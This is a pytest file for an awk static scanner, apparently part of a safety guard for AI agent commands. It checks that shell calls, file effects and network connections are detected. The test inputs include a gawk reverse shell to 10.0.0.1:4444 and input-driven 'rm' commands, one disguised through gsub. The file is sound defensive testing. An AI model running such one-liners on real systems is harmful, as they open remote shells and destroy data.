"""awk programs are walked through for their `system`, pipes and files."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from making import nothing

from agent_hooks_guards.code import STDIN, Found
from agent_hooks_guards.code.awk import scan
from agent_hooks_guards.model.values import NETWORK, UNKNOWN, Data
from tables import tables

TABLES = tables(__file__)

NONE: frozenset[str] = frozenset()
INPUT = frozenset((STDIN,))


def found(code: str, *arguments: str) -> Found:
    return scan(code, NONE, list(arguments), "awk")


@pytest.mark.parametrize("code", TABLES["what_awk_gives_to_a_shell_is_told"])
def test_what_awk_gives_to_a_shell_is_told(code):
    assert "halt" in [data.text.strip() for data in found(code).shells]


def test_a_line_of_the_input_that_is_run_is_told_as_such():
    assert found("{ system($0) }").shells == [Data(UNKNOWN, INPUT)]
    assert found('{ system("rm " $1) }').shells == [Data("rm " + UNKNOWN, INPUT)]


def test_variables_that_are_set_for_it_are_known():
    assert found("BEGIN { system(c) }", "c=halt").shells == [Data("halt")]


@pytest.mark.parametrize(
    ("code", "effect"),
    [
        ('{ print > "/x" }', ("write", "/x", False, INPUT, "")),
        ('{ print "a" >> "/x" }', ("write", "/x", False, NONE, "append")),
        ('BEGIN { while ((getline line < "/x") > 0) n++ }', ("read", "/x", False, NONE, "")),
        ('BEGIN { printf("%s", "a") > "/x" }', ("write", "/x", False, NONE, "")),
    ],
)
def test_its_files_are_told(code, effect):
    assert found(code).effects == [effect]


def test_a_shell_for_somebody_elsewhere_is_told():
    what = found(
        'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { s |& getline c; '
        "while ((c |& getline l) > 0) print l |& s } }"
    )
    assert [each.text for each in what.shells] == [UNKNOWN]
    assert NETWORK in what.shells[0].labels
    assert ("receive", "10.0.0.1:4444", False, NONE, "") in what.effects


@pytest.mark.parametrize("code", TABLES["what_only_reads_and_prints_finds_nothing"])
def test_what_only_reads_and_prints_finds_nothing(code):
    assert nothing(found(code))


def test_work_is_bounded():
    assert scan("{" * 6000 + "system(x)", NONE, [], "awk").doubts
    assert isinstance(scan("function f() { f() } BEGIN { f() }", NONE, [], "awk"), Found)


@given(st.text(alphabet=st.characters(codec="ascii", exclude_characters="\r\n"), max_size=60))
def test_any_text_that_is_only_printed_finds_nothing(text):
    quoted = text.replace("\\", "\\\\").replace('"', '\\"')
    assert nothing(found('BEGIN { print "' + quoted + '" }'))


@pytest.mark.parametrize("program", TABLES["what_is_made_of_a_line_in_a_way_that_is_not_computed_is_not_known"])
def test_what_is_made_of_a_line_in_a_way_that_is_not_computed_is_not_known(program):
    assert [each.text for each in scan(program, NONE, [], "awk", "xm -r a\n").shells] == [UNKNOWN]


def test_the_line_of_input_is_run_with_its_replacements():
    for program, shell in (("{ system($0) }", "xm -r a"), ('{ gsub(/[xy]/, "r"); system($0) }', "rm -r a")):
        assert [each.text for each in scan(program, NONE, [], "awk", "xm -r a\n").shells] == [shell]


@pytest.mark.parametrize("program", TABLES["a_computed_command_line_is_unknown"])
def test_a_computed_command_line_is_unknown(program):
    assert UNKNOWN in scan(program, NONE, [], "awk", "xm -r a\n").shells[0].text
